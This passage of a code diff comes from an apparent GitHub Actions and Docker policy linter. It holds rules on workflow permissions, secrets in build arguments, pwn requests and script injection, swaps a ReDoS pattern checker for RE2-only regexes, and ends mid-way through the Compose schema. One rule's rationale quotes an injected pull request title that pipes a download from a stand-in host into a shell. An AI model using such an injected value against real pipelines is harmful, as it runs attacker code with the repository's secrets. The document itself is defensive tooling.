packages: write\\n```","references":[{"framework":"url","url":"https://docs.github.com/en/actions/reference/workflows-and-actions/workflow-syntax#permissions"}],"params":{},"paramSchemas":{},"tests":[{"file":".github/workflows/release.yml","content":"on: push\\npermissions: write-all\\njobs:\\n  release:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - run: make release\\n","expect":[{"line":2,"column":1,"endLine":2,"endColumn":23}]},{"file":".github/workflows/release.yml","content":"on: push\\npermissions:\\n  contents: write\\njobs:\\n  release:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - run: make release\\n","expect":[]}],"source":"policies/workflows/workflow-permissions-write-all.yaml"},{"id":"workflow-secret-in-build-args","pack":"workflows","title":"Secret passed to an image build as a build argument","severity":"high","subject":"workflow.step","when":{"required":["uses"],"properties":{"uses":{"pattern":"^docker/build-push-action(@|$)"}}},"schema":{"properties":{"with":{"properties":{"build-args":{"not":{"pattern":{"$param":"secretExpression"}}}}}}},"message":"This build passes a secret through `build-args`, which are recorded in the image\'s history and provenance, so anyone who can pull the image can read it. Pass it with the action\'s `secrets:` input and read it in the Dockerfile with `RUN --mount=type=secret`.","rationale":"Build arguments are not secret: their values end up in the image configuration\'s history (when an ARG is used by a RUN), in build logs and caches, and, since docker/build-push-action adds provenance attestations by default, in the provenance attached to the pushed image, which Docker\'s documentation warns about. Docker\'s GitHub Actions documentation shows build secrets passed through the `secrets:` (or `secret-files:`) input instead, which BuildKit mounts for the one step that needs them and never writes to a layer.","remediation":"```yaml\\n- uses: docker/build-push-action@<sha>\\n  with:\\n    push: true\\n    tags: ghcr.io/example/app:1.4.2\\n    secrets: |\\n      npm_token=${{ secrets.NPM_TOKEN }}\\n```\\n\\n```dockerfile\\nRUN --mount=type=secret,id=npm_token,env=NPM_TOKEN npm ci --omit=dev\\n```","references":[{"framework":"owasp-docker","id":"RULE #12"},{"framework":"url","url":"https://docs.docker.com/build/ci/github-actions/secrets/"}],"params":{"secretExpression":"\\\\$\\\\{\\\\{\\\\s*(secrets\\\\.|github\\\\.token)"},"paramSchemas":{"secretExpression":{"schema":{"type":"string","format":"regex","minLength":1},"description":"A secret or token expression anywhere in the build arguments."}},"tests":[{"file":".github/workflows/release.yml","content":"on: push\\njobs:\\n  image:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - uses: docker/build-push-action@v6\\n        with:\\n          push: true\\n          tags: ghcr.io/example/app:1.4.2\\n          build-args: |\\n            APP_VERSION=1.4.2\\n            NPM_TOKEN=${{ secrets.NPM_TOKEN }}\\n","expect":[{"line":10,"column":11}]},{"file":".github/workflows/release.yml","content":"on: push\\njobs:\\n  image:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - uses: docker/build-push-action@v6\\n        with:\\n          push: true\\n          tags: ghcr.io/example/app:1.4.2\\n          build-args: |\\n            APP_VERSION=${{ github.ref_name }}\\n          secrets: |\\n            npm_token=${{ secrets.NPM_TOKEN }}\\n","expect":[]}],"source":"policies/workflows/workflow-secret-in-build-args.yaml"},{"id":"workflow-untrusted-code-with-privileged-trigger","pack":"workflows","title":"Privileged trigger builds or runs a pull request\'s code","severity":"critical","subject":"workflow.step","when":{"required":["prHeadCheckedOut","triggers"],"properties":{"prHeadCheckedOut":{"const":true},"triggers":{"contains":{"enum":["pull_request_target","workflow_run"]}}}},"schema":{"properties":{"builds":false,"composeFiles":false}},"message":"This step builds or runs the pull request\'s code (`docker build`, build-push-action, `docker compose`) in a workflow started by `pull_request_target` or `workflow_run`, which has the base repository\'s secrets and a write token: any contributor can run code with them. Build untrusted code in a `pull_request` workflow, and pass only its results to the privileged one.","rationale":"`pull_request_target` and `workflow_run` run in the context of the base repository, with its secrets and a `GITHUB_TOKEN` that can write, precisely because they are not supposed to run the pull request\'s code. Checking out the head of the pull request and then building a Dockerfile (whose RUN steps execute) or bringing up a Compose file hands that access to whoever opened the pull request (\\"pwn request\\"). The job\'s earlier checkout of the head is what makes this step dangerous; the finding is on the step that executes the code.","remediation":"Split the work: build and test the contributor\'s code with `on: pull_request` (no secrets, read\\ntoken), upload what is needed as an artifact, and let a `workflow_run` workflow that never checks\\nout or executes the pull request\'s code publish it:\\n\\n```yaml\\non: pull_request\\npermissions:\\n  contents: read\\njobs:\\n  build:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - uses: actions/checkout@<sha>\\n      - run: docker build -t app:pr .\\n```","references":[{"framework":"url","url":"https://securitylab.github.com/resources/github-actions-preventing-pwn-requests/"},{"framework":"url","url":"https://docs.github.com/en/actions/reference/workflows-and-actions/events-that-trigger-workflows#pull_request_target"}],"params":{},"paramSchemas":{},"tests":[{"file":".github/workflows/preview.yml","content":"on: pull_request_target\\njobs:\\n  preview:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683\\n        with:\\n          ref: ${{ github.event.pull_request.head.sha }}\\n      - run: docker build -t preview:${{ github.event.number }} .\\n      - run: docker compose up -d\\n","expect":[{"line":9,"column":9},{"line":10,"column":9}]},{"file":".github/workflows/preview.yml","content":"on: pull_request_target\\njobs:\\n  label:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683\\n      - run: docker build -t tools .\\n","expect":[]},{"file":".github/workflows/ci.yml","content":"on: pull_request\\njobs:\\n  build:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683\\n        with:\\n          ref: ${{ github.event.pull_request.head.sha }}\\n      - run: docker build -t app:pr .\\n","expect":[]}],"source":"policies/workflows/workflow-untrusted-code-with-privileged-trigger.yaml"},{"id":"workflow-untrusted-input-in-run","pack":"workflows","title":"Attacker-controlled value expanded into a run script","severity":"high","subject":"workflow.step","schema":{"if":{"required":["untrustedExpressions"]},"then":{"properties":{"run":false}}},"message":"This `run:` script expands attacker-controlled values ({{subject.untrustedExpressions}}) straight into shell code, so whoever writes that title, branch name or comment can run commands here, with the job\'s token and secrets. Pass the value through an environment variable and quote it: `env: { TITLE: ${{ github.event.pull_request.title }} }` and `\\"$TITLE\\"` in the script.","rationale":"GitHub replaces `${{ }}` expressions before the shell starts, so the value becomes part of the script\'s text. Pull request titles and bodies, issue and comment bodies, commit messages, author names and branch names are chosen by whoever opens the pull request or issue; a title such as `\\"; curl evil.sh | sh; \\"` is executed. Through an environment variable the value stays data. GitHub\'s security hardening guide describes this script injection.","remediation":"```yaml\\n- name: Greet\\n  env:\\n    TITLE: ${{ github.event.pull_request.title }}\\n  run: echo \\"Building: $TITLE\\"\\n```","references":[{"framework":"url","url":"https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#understanding-the-risk-of-script-injections"}],"params":{},"paramSchemas":{},"tests":[{"file":".github/workflows/triage.yml","content":"on:\\n  issues:\\n    types: [opened]\\njobs:\\n  triage:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - run: |\\n          echo \\"New issue: ${{ github.event.issue.title }}\\"\\n          docker run --rm ghcr.io/example/triage:1.0.0 \\"${{ github.event.issue.body }}\\"\\n","expect":[{"line":8,"column":9}]},{"file":".github/workflows/triage.yml","content":"on:\\n  issues:\\n    types: [opened]\\njobs:\\n  triage:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - env:\\n          TITLE: ${{ github.event.issue.title }}\\n        run: echo \\"New issue $TITLE (#${{ github.event.issue.number }})\\"\\n","expect":[]}],"source":"policies/workflows/workflow-untrusted-input-in-run.yaml"}],"source":"policies/workflows"}]');
   return { packs, validators };
 }
 
@@ -32433,7 +39330,11 @@ var AJV_OPTIONS = {
   strict: false,
   strictSchema: true,
   allowUnionTypes: true,
-  validateFormats: false
+  validateFormats: false,
+  code: { regExp: linearRegExp },
+  // The strict check that warns when a `properties` name matches a `patternProperties` key runs
+  // the pattern with JavaScript's RegExp; every pattern must run on RE2 alone.
+  allowMatchingProperties: true
 };
 var compiled;
 var compiledAtRunTime = 0;
@@ -33271,254 +40172,14 @@ var SUBJECT_SCHEMAS = {
 };
 var SUBJECT_TYPES = Object.keys(SUBJECT_SCHEMAS);
 
-// src/policy/regex-safety.ts
-function unsafePatternReason(source) {
-  let tree;
-  try {
-    tree = new Parser(source).parse();
-  } catch {
-    return void 0;
-  }
-  return analyze(tree).problem;
-}
-var range = (from, to) => Array.from({ length: to - from + 1 }, (_, i) => String.fromCharCode(from + i));
-var DIGITS = new Set(range(48, 57));
-var WORD = /* @__PURE__ */ new Set([...range(48, 57), ...range(65, 90), ...range(97, 122), "_"]);
-var SPACE = /* @__PURE__ */ new Set([" ", "	", "\n", "\r", "\f", "\v"]);
-var MAX_CLASS = 512;
-var Parser = class {
-  constructor(source) {
-    this.source = source;
-  }
-  source;
-  at = 0;
-  parse() {
-    const group = this.alternation();
-    if (this.at < this.source.length) throw new Error("unbalanced )");
-    return group;
-  }
-  alternation() {
-    const branches = [this.sequence()];
-    while (this.source[this.at] === "|") {
-      this.at++;
-      branches.push(this.sequence());
-    }
-    return { type: "group", branches };
-  }
-  sequence() {
-    const items = [];
-    while (this.at < this.source.length && this.source[this.at] !== "|" && this.source[this.at] !== ")") {
-      const node = this.atom();
-      const [min, max] = this.quantifier();
-      items.push({ node, min, max });
-    }
-    return items;
-  }
-  atom() {
-    const char = this.source[this.at++];
-    switch (char) {
-      case "^":
-      case "$":
-        return { type: "assertion" };
-      case ".":
-        return { type: "atom", first: "any" };
-      case "[":
-        return { type: "atom", first: this.characterClass() };
-      case "(": {
-        let lookaround = false;
-        if (this.source[this.at] === "?") {
-          const rest = this.source.slice(this.at, this.at + 4);
-          if (rest.startsWith("?:")) this.at += 2;
-          else if (/^\?<?[=!]/.test(rest)) {
-            lookaround = true;
-            this.at += rest[1] === "<" ? 3 : 2;
-          } else if (rest.startsWith("?<")) this.at = this.source.indexOf(">", this.at) + 1;
-        }
-        const group = this.alternation();
-        if (this.source[this.at++] !== ")") throw new Error("unclosed (");
-        return lookaround ? { type: "assertion" } : group;
-      }
-      case "\\":
-        return this.escape();
-      default:
-        return { type: "atom", first: /* @__PURE__ */ new Set([char]) };
-    }
-  }
-  escape() {
-    const char = this.source[this.at++] ?? "";
-    if (char === "b" || char === "B") return { type: "assertion" };
-    const known = classEscape(char);
-    if (known) return { type: "atom", first: known };
-    if (char === "u" || char === "x" || char === "p" || char === "P" || char === "k" || /\d/.test(char)) {
-      if (this.source[this.at] === "{") this.at = this.source.indexOf("}", this.at) + 1;
-      else if (this.source[this.at] === "<") this.at = this.source.indexOf(">", this.at) + 1;
-      else while (/[0-9a-fA-F]/.test(this.source[this.at] ?? "")) this.at++;
-      return { type: "atom", first: "any" };
-    }
-    return { type: "atom", first: /* @__PURE__ */ new Set([controlEscape(char)]) };
-  }
-  characterClass() {
-    const negated = this.source[this.at] === "^";
-    if (negated) this.at++;
-    const chars = /* @__PURE__ */ new Set();
-    let any = negated;
-    let first = true;
-    while (this.at < this.source.length && (this.source[this.at] !== "]" || first)) {
-      first = false;
-      const char = this.source[this.at++];
-      if (char === "\\") {
-        const escaped = this.source[this.at++] ?? "";
-        const known = classEscape(escaped);
-        if (known === "any") any = true;
-        else if (known) for (const c of known) chars.add(c);
-        else if (/[uxpPdDwWsS0-9]/.test(escaped)) any = true;
-        else chars.add(controlEscape(escaped));
-        continue;
-      }
-      if (this.source[this.at] === "-" && this.source[this.at + 1] !== "]" && this.at + 1 < this.source.length) {
-        let to = this.source[this.at + 1];
-        this.at += 2;
-        if (to === "\\") to = controlEscape(this.source[this.at++] ?? "");
-        const [a, b] = [char.charCodeAt(0), to.charCodeAt(0)];
-        if (b - a > MAX_CLASS) any = true;
-        else for (const c of range(a, b)) chars.add(c);
-        continue;
-      }
-      chars.add(char);
-    }
-    if (this.source[this.at++] !== "]") throw new Error("unclosed [");
-    return any || chars.size > MAX_CLASS ? "any" : chars;
-  }
-  quantifier() {
-    const char = this.source[this.at];
-    let bounds;
-    if (char === "*") bounds = [0, Infinity];
-    else if (char === "+") bounds = [1, Infinity];
-    else if (char === "?") bounds = [0, 1];
-    if (bounds) this.at++;
-    else if (char === "{") {
-      const match = /^\{(\d+)(,(\d*))?\}/.exec(this.source.slice(this.at));
-      if (!match) return [1, 1];
-      this.at += match[0].length;
-      const min = Number(match[1]);
-      bounds = [min, match[2] === void 0 ? min : match[3] === "" ? Infinity : Number(match[3])];
-    } else return [1, 1];
-    if (this.source[this.at] === "?") this.at++;
-    return bounds;
-  }
-};
-function classEscape(char) {
-  switch (char) {
-    case "d":
-      return DIGITS;
-    case "w":
-      return WORD;
-    case "s":
-      return SPACE;
-    case "D":
-    case "W":
-    case "S":
-      return "any";
-    default:
-      return void 0;
-  }
-}
-function controlEscape(char) {
-  return { n: "\n", r: "\r", t: "	", f: "\f", v: "\v" }[char] ?? char;
-}
-function union(a, b) {
-  if (a === "any" || b === "any") return "any";
-  return /* @__PURE__ */ new Set([...a, ...b]);
-}
-function overlaps(a, b) {
-  if (a === "any") return b === "any" || b.size > 0;
-  if (b === "any") return a.size > 0;
-  for (const char of a) if (b.has(char)) return true;
-  return false;
-}
-function analyze(node) {
-  if (node.type === "assertion") return { unbounded: false, delimited: true, nullable: true, first: /* @__PURE__ */ new Set() };
-  if (node.type === "atom") return { unbounded: false, delimited: true, nullable: false, first: node.first };
-  let unbounded = false;
-  let delimited = true;
-  let nullable = false;
-  let first = /* @__PURE__ */ new Set();
-  const branchFirsts = [];
-  for (const branch of node.branches) {
-    const facts = sequence(branch);
-    if (facts.problem) return facts;
-    unbounded ||= facts.unbounded;
-    delimited &&= facts.delimited;
-    nullable ||= facts.nullable;
-    first = union(first, facts.first);
-    branchFirsts.push(facts.first);
-  }
-  return { unbounded, delimited, nullable, first, branchFirsts };
-}
-function sequence(items) {
-  let unbounded = false;
-  let delimited = true;
-  let nullable = true;
-  let first = /* @__PURE__ */ new Set();
-  for (const item of items) {
-    const facts = analyze(item.node);
-    if (facts.problem) return facts;
-    if (item.max === Infinity && item.node.type === "group") {
-      if (facts.unbounded && !facts.delimited) return { ...facts, problem: "a repeated group holds a repetition of its own (nested quantifiers)" };
-      const branches = facts.branchFirsts ?? [];
-      for (let i = 0; i < branches.length; i++) {
-        for (let j = i + 1; j < branches.length; j++) {
-          if (overlaps(branches[i], branches[j])) return { ...facts, problem: "a repeated alternation has branches that can match the same text" };
-        }
-      }
-    }
-    const varies = item.max === Infinity || item.max > 1 && item.min < item.max;
-    unbounded ||= facts.unbounded || varies;
-    if (varies) {
-      const next = items[items.indexOf(item) + 1];
-      delimited &&= item.node.type === "atom" && next?.node.type === "atom" && next.min >= 1 && !overlaps(next.node.first, item.node.first);
-    } else delimited &&= facts.delimited;
-    if (nullable) first = union(first, facts.first);
-    nullable &&= facts.nullable || item.min === 0;
-  }
-  return { unbounded, delimited, nullable, first };
-}
-function schemaPatterns(schema, pointer = "") {
-  const found = [];
-  const visit2 = (value, at) => {
-    if (Array.isArray(value)) {
-      for (const [index, item] of value.entries()) visit2(item, `${at}/${index}`);
-      return;
-    }
-    if (value === null || typeof value !== "object") return;
-    for (const [key, child] of Object.entries(value)) {
-      const childAt = `${at}/${key.replace(/~/g, "~0").replace(/\//g, "~1")}`;
-      if (key === "pattern" && typeof child === "string") found.push({ pattern: child, pointer: childAt });
-      if (key === "patternProperties" && child !== null && typeof child === "object") {
-        for (const name of Object.keys(child)) found.push({ pattern: name, pointer: `${childAt}/${name.replace(/~/g, "~0").replace(/\//g, "~1")}` });
-      }
-      visit2(child, childAt);
-    }
-  };
-  visit2(schema, pointer);
-  return found;
-}
-
 // src/policy/check-rule-schema.ts
 function ruleSchemaProblem(schema, field) {
+  const pattern = unsupportedPattern(schema, `/${field}`);
+  if (pattern) return pattern;
   try {
     compileOnce(schema);
   } catch (error) {
     return { pointer: `/${field}`, message: `"${field}" is not a valid JSON Schema: ${error.message}` };
-  }
-  for (const { pattern, pointer } of schemaPatterns(schema, `/${field}`)) {
-    const reason = unsafePatternReason(pattern);
-    if (reason) {
-      return {
-        pointer,
-        message: `The pattern ${JSON.stringify(pattern)} can take exponential time on a crafted value (${reason}). Rewrite it without a repetition inside a repeated group, e.g. "(a+)+" as "a+".`
-      };
-    }
   }
   return void 0;
 }
@@ -36477,9 +43138,10 @@ var compose_spec_schema_default = {
 // src/documents/compose-schema-precompiled.ts
 var composeValidate = validate10;
 var schema11 = { "$id": "compose_spec.json", "type": "object", "title": "Compose Specification", "description": "The Compose file is a YAML file defining a multi-containers based application.", "properties": { "version": { "type": "string", "deprecated": true, "description": "declared for backward compatibility, ignored. Please remove it." }, "name": { "type": "string", "description": "define the Compose project name, until user defines one explicitly." }, "include": { "type": "array", "items": { "$ref": "#/definitions/include" }, "description": "compose sub-projects to be included." }, "services": { "type": "object", "patternProperties": { "^[a-zA-Z0-9._-]+$": { "$ref": "#/definitions/service" } }, "additionalProperties": false, "description": "The services that will be used by your application." }, "models": { "type": "object", "patternProperties": { "^[a-zA-Z0-9._-]+$": { "$ref": "#/definitions/model" } }, "description": "Language models that will be used by your application." }, "networks": { "type": "object", "patternProperties": { "^[a-zA-Z0-9._-]+$": { "$ref": "#/definitions/network" } }, "description": "Networks that are shared among multiple services." }, "volumes": { "type": "object", "patternProperties": { "^[a-zA-Z0-9._-]+$": { "$ref": "#/definitions/volume" } }, "additionalProperties": false, "description": "Named volumes that are shared among multiple services." }, "secrets": { "type": "object", "patternProperties": { "^[a-zA-Z0-9._-]+$": { "$ref": "#/definitions/secret" } }, "additionalProperties": false, "description": "Secrets that are shared among multiple services." }, "configs": { "type": "object", "patternProperties": { "^[a-zA-Z0-9._-]+$": { "$ref": "#/definitions/config" } }, "additionalProperties": false, "description": "Configurations that are shared among multiple services." } }, "patternProperties": { "^x-": {} }, "additionalProperties": false, "definitions": { "service": { "type": "object", "description": "Configuration for a service.", "properties": { "develop": { "$ref": "#/definitions/development" }, "deploy": { "$ref": "#/definitions/deployment" }, "annotations": { "$ref": "#/definitions/list_or_dict" }, "attach": { "type": ["boolean", "string"] }, "build": { "description": "Configuration options for building the service's image.", "oneOf": [{ "type": "string", "description": "Path to the build context. Can be a relative path or a URL." }, { "type": "object", "properties": { "context": { "type": "string", "description": "Path to the build context. Can be a relative path or a URL." }, "dockerfile": { "type": "string", "description": "Name of the Dockerfile to use for building the image." }, "dockerfile_inline": { "type": "string", "description": "Inline Dockerfile content to use instead of a Dockerfile from the build context." }, "entitlements": { "type": "array", "items": { "type": "string" }, "description": "List of extra privileged entitlements to grant to the build process." }, "args": { "$ref": "#/definitions/list_or_dict", "description": "Build-time variables, specified as a map or a list of KEY=VAL pairs." }, "ssh": { "$ref": "#/definitions/list_or_dict", "description": "SSH agent socket or keys to expose to the build. Format is either a string or a list of 'default|<id>[=<socket>|<key>[,<key>]]'." }, "labels": { "$ref": "#/definitions/list_or_dict", "description": "Labels to apply to the built image." }, "cache_from": { "type": "array", "items": { "type": "string" }, "description": "List of sources the image builder should use for cache resolution" }, "cache_to": { "type": "array", "items": { "type": "string" }, "description": "Cache destinations for the build cache." }, "no_cache": { "type": ["boolean", "string"], "description": "Do not use cache when building the image." }, "additional_contexts": { "$ref": "#/definitions/list_or_dict", "description": "Additional build contexts to use, specified as a map of name to context path or URL." }, "network": { "type": "string", "description": "Network mode to use for the build. Options include 'default', 'none', 'host', or a network name." }, "pull": { "type": ["boolean", "string"], "description": "Always attempt to pull a newer version of the image." }, "target": { "type": "string", "description": "Build stage to target in a multi-stage Dockerfile." }, "shm_size": { "type": ["integer", "string"], "description": "Size of /dev/shm for the build container. A string value can use suffix like '2g' for 2 gigabytes." }, "extra_hosts": { "$ref": "#/definitions/extra_hosts", "description": "Add hostname mappings for the build container." }, "isolation": { "type": "string", "description": "Container isolation technology to use for the build process." }, "privileged": { "type": ["boolean", "string"], "description": "Give extended privileges to the build container." }, "secrets": { "$ref": "#/definitions/service_config_or_secret", "description": "Secrets to expose to the build. These are accessible at build-time." }, "tags": { "type": "array", "items": { "type": "string" }, "description": "Additional tags to apply to the built image." }, "ulimits": { "$ref": "#/definitions/ulimits", "description": "Override the default ulimits for the build container." }, "platforms": { "type": "array", "items": { "type": "string" }, "description": "Platforms to build for, e.g., 'linux/amd64', 'linux/arm64', or 'windows/amd64'." } }, "additionalProperties": false, "patternProperties": { "^x-": {} } }] }, "blkio_config": { "type": "object", "description": "Block IO configuration for the service.", "properties": { "device_read_bps": { "type": "array", "description": "Limit read rate (bytes per second) from a device.", "items": { "$ref": "#/definitions/blkio_limit" } }, "device_read_iops": { "type": "array", "description": "Limit read rate (IO per second) from a device.", "items": { "$ref": "#/definitions/blkio_limit" } }, "device_write_bps": { "type": "array", "description": "Limit write rate (bytes per second) to a device.", "items": { "$ref": "#/definitions/blkio_limit" } }, "device_write_iops": { "type": "array", "description": "Limit write rate (IO per second) to a device.", "items": { "$ref": "#/definitions/blkio_limit" } }, "weight": { "type": ["integer", "string"], "description": "Block IO weight (relative weight) for the service, between 10 and 1000." }, "weight_device": { "type": "array", "description": "Block IO weight (relative weight) for specific devices.", "items": { "$ref": "#/definitions/blkio_weight" } } }, "additionalProperties": false }, "cap_add": { "type": "array", "items": { "type": "string" }, "uniqueItems": true, "description": "Add Linux capabilities. For example, 'CAP_SYS_ADMIN', 'SYS_ADMIN', or 'NET_ADMIN'." }, "cap_drop": { "type": "array", "items": { "type": "string" }, "uniqueItems": true, "description": "Drop Linux capabilities. For example, 'CAP_SYS_ADMIN', 'SYS_ADMIN', or 'NET_ADMIN'." }, "cgroup": { "type": "string", "enum": ["host", "private"], "description": "Specify the cgroup namespace to join. Use 'host' to use the host's cgroup namespace, or 'private' to use a private cgroup namespace." }, "cgroup_parent": { "type": "string", "description": "Specify an optional parent cgroup for the container." }, "command": { "$ref": "#/definitions/command", "description": "Override the default command declared by the container image, for example 'CMD' in Dockerfile." }, "configs": { "$ref": "#/definitions/service_config_or_secret", "description": "Grant access to Configs on a per-service basis." }, "container_name": { "type": "string", "description": "Specify a custom container name, rather than a generated default name.", "pattern": "[a-zA-Z0-9][a-zA-Z0-9_.-]+" }, "cpu_count": { "oneOf": [{ "type": "string" }, { "type": "integer", "minimum": 0 }], "description": "Number of usable CPUs." }, "cpu_percent": { "oneOf": [{ "type": "string" }, { "type": "integer", "minimum": 0, "maximum": 100 }], "description": "Percentage of CPU resources to use." }, "cpu_shares": { "type": ["number", "string"], "description": "CPU shares (relative weight) for the container." }, "cpu_quota": { "type": ["number", "string"], "description": "Limit the CPU CFS (Completely Fair Scheduler) quota." }, "cpu_period": { "type": ["number", "string"], "description": "Limit the CPU CFS (Completely Fair Scheduler) period." }, "cpu_rt_period": { "type": ["number", "string"], "description": "Limit the CPU real-time period in microseconds or a duration." }, "cpu_rt_runtime": { "type": ["number", "string"], "description": "Limit the CPU real-time runtime in microseconds or a duration." }, "cpus": { "type": ["number", "string"], "description": "Number of CPUs to use. A floating-point value is supported to request partial CPUs." }, "cpuset": { "type": "string", "description": "CPUs in which to allow execution (0-3, 0,1)." }, "credential_spec": { "type": "object", "description": "Configure the credential spec for managed service account.", "properties": { "config": { "type": "string", "description": "The name of the credential spec Config to use." }, "file": { "type": "string", "description": "Path to a credential spec file." }, "registry": { "type": "string", "description": "Path to a credential spec in the Windows registry." } }, "additionalProperties": false, "patternProperties": { "^x-": {} } }, "depends_on": { "oneOf": [{ "$ref": "#/definitions/list_of_strings" }, { "type": "object", "additionalProperties": false, "patternProperties": { "^[a-zA-Z0-9._-]+$": { "type": "object", "additionalProperties": false, "patternProperties": { "^x-": {} }, "properties": { "restart": { "type": ["boolean", "string"], "description": "Whether to restart dependent services when this service is restarted." }, "required": { "type": "boolean", "default": true, "description": "Whether the dependency is required for the dependent service to start." }, "condition": { "type": "string", "enum": ["service_started", "service_healthy", "service_completed_successfully"], "description": "Condition to wait for. 'service_started' waits until the service has started, 'service_healthy' waits until the service is healthy (as defined by its healthcheck), 'service_completed_successfully' waits until the service has completed successfully." } }, "required": ["condition"] } } }], "description": "Express dependency between services. Service dependencies cause services to be started in dependency order. The dependent service will wait for the dependency to be ready before starting." }, "device_cgroup_rules": { "$ref": "#/definitions/list_of_strings", "description": "Add rules to the cgroup allowed devices list." }, "devices": { "type": "array", "description": "List of device mappings for the container.", "items": { "oneOf": [{ "type": "string" }, { "type": "object", "required": ["source"], "properties": { "source": { "type": "string", "description": "Path on the host to the device." }, "target": { "type": "string", "description": "Path in the container where the device will be mapped." }, "permissions": { "type": "string", "description": "Cgroup permissions for the device (rwm)." } }, "additionalProperties": false, "patternProperties": { "^x-": {} } }] } }, "dns": { "$ref": "#/definitions/string_or_list", "description": "Custom DNS servers to set for the service container." }, "dns_opt": { "type": "array", "items": { "type": "string" }, "uniqueItems": true, "description": "Custom DNS options to be passed to the container's DNS resolver." }, "dns_search": { "$ref": "#/definitions/string_or_list", "description": "Custom DNS search domains to set on the service container." }, "domainname": { "type": "string", "description": "Custom domain name to use for the service container." }, "entrypoint": { "$ref": "#/definitions/command", "description": "Override the default entrypoint declared by the container image, for example 'ENTRYPOINT' in Dockerfile." }, "env_file": { "$ref": "#/definitions/env_file", "description": "Add environment variables from a file or multiple files. Can be a single file path or a list of file paths." }, "label_file": { "$ref": "#/definitions/label_file", "description": "Add metadata to containers using files containing Docker labels." }, "environment": { "$ref": "#/definitions/list_or_dict", "description": "Add environment variables. You can use either an array or a list of KEY=VAL pairs." }, "expose": { "type": "array", "items": { "type": ["string", "number"] }, "uniqueItems": true, "description": "Expose ports without publishing them to the host machine - they'll only be accessible to linked services." }, "extends": { "oneOf": [{ "type": "string" }, { "type": "object", "properties": { "service": { "type": "string", "description": "The name of the service to extend." }, "file": { "type": "string", "description": "The file path where the service to extend is defined." } }, "required": ["service"], "additionalProperties": false }], "description": "Extend another service, in the current file or another file." }, "provider": { "type": "object", "description": "Specify a service which will not be manage by Compose directly, and delegate its management to an external provider.", "required": ["type"], "properties": { "type": { "type": "string", "description": "External component used by Compose to manage setup and teardown lifecycle of the service." }, "options": { "type": "object", "description": "Provider-specific options.", "patternProperties": { "^.+$": { "oneOf": [{ "type": ["string", "number", "boolean"] }, { "type": "array", "items": { "type": ["string", "number", "boolean"] } }] } } } }, "additionalProperties": false, "patternProperties": { "^x-": {} } }, "external_links": { "type": "array", "items": { "type": "string" }, "uniqueItems": true, "description": "Link to services started outside this Compose application. Specify services as <service_name>:<alias>." }, "extra_hosts": { "$ref": "#/definitions/extra_hosts", "description": "Add hostname mappings to the container network interface configuration." }, "gpus": { "$ref": "#/definitions/gpus", "description": "Define GPU devices to use. Can be set to 'all' to use all GPUs, or a list of specific GPU devices." }, "group_add": { "type": "array", "items": { "type": ["string", "number"] }, "uniqueItems": true, "description": "Add additional groups which user inside the container should be member of." }, "healthcheck": { "$ref": "#/definitions/healthcheck", "description": "Configure a health check for the container to monitor its health status." }, "hostname": { "type": "string", "description": "Define a custom hostname for the service container." }, "image": { "type": "string", "description": "Specify the image to start the container from. Can be a repository/tag, a digest, or a local image ID." }, "init": { "type": ["boolean", "string"], "description": "Run as an init process inside the container that forwards signals and reaps processes." }, "ipc": { "type": "string", "description": "IPC sharing mode for the service container. Use 'host' to share the host's IPC namespace, 'service:[service_name]' to share with another service, or 'shareable' to allow other services to share this service's IPC namespace." }, "isolation": { "type": "string", "description": "Container isolation technology to use. Supported values are platform-specific." }, "labels": { "$ref": "#/definitions/list_or_dict", "description": "Add metadata to containers using Docker labels. You can use either an array or a list." }, "links": { "type": "array", "items": { "type": "string" }, "uniqueItems": true, "description": "Link to containers in another service. Either specify both the service name and a link alias (SERVICE:ALIAS), or just the service name." }, "logging": { "type": "object", "description": "Logging configuration for the service.", "properties": { "driver": { "type": "string", "description": "Logging driver to use, such as 'json-file', 'syslog', 'journald', etc." }, "options": { "type": "object", "description": "Options for the logging driver.", "patternProperties": { "^.+$": { "type": ["string", "number", "null"] } } } }, "additionalProperties": false, "patternProperties": { "^x-": {} } }, "mac_address": { "type": "string", "description": "Container MAC address to set." }, "mem_limit": { "type": ["number", "string"], "description": "Memory limit for the container. A string value can use suffix like '2g' for 2 gigabytes." }, "mem_reservation": { "type": ["string", "integer"], "description": "Memory reservation for the container." }, "mem_swappiness": { "type": ["integer", "string"], "description": "Container memory swappiness as percentage (0 to 100)." }, "memswap_limit": { "type": ["number", "string"], "description": "Amount of memory the container is allowed to swap to disk. Set to -1 to enable unlimited swap." }, "network_mode": { "type": "string", "description": "Network mode. Values can be 'bridge', 'host', 'none', 'service:[service name]', or 'container:[container name]'." }, "models": { "oneOf": [{ "$ref": "#/definitions/list_of_strings" }, { "type": "object", "patternProperties": { "^[a-zA-Z0-9._-]+$": { "type": "object", "properties": { "endpoint_var": { "type": "string", "description": "Environment variable set to AI model endpoint." }, "model_var": { "type": "string", "description": "Environment variable set to AI model name." } }, "additionalProperties": false, "patternProperties": { "^x-": {} } } } }], "description": "AI Models to use, referencing entries under the top-level models key." }, "networks": { "oneOf": [{ "$ref": "#/definitions/list_of_strings" }, { "type": "object", "patternProperties": { "^[a-zA-Z0-9._-]+$": { "oneOf": [{ "type": "object", "properties": { "aliases": { "$ref": "#/definitions/list_of_strings", "description": "Alternative hostnames for this service on the network." }, "interface_name": { "type": "string", "description": "Interface network name used to connect to network" }, "ipv4_address": { "type": "string", "description": "Specify a static IPv4 address for this service on this network." }, "ipv6_address": { "type": "string", "description": "Specify a static IPv6 address for this service on this network." }, "link_local_ips": { "$ref": "#/definitions/list_of_strings", "description": "List of link-local IPs." }, "mac_address": { "type": "string", "description": "Specify a MAC address for this service on this network." }, "driver_opts": { "type": "object", "description": "Driver options for this network.", "patternProperties": { "^.+$": { "type": ["string", "number"] } } }, "priority": { "type": "number", "description": "Specify the priority for the network connection." }, "gw_priority": { "type": "number", "description": 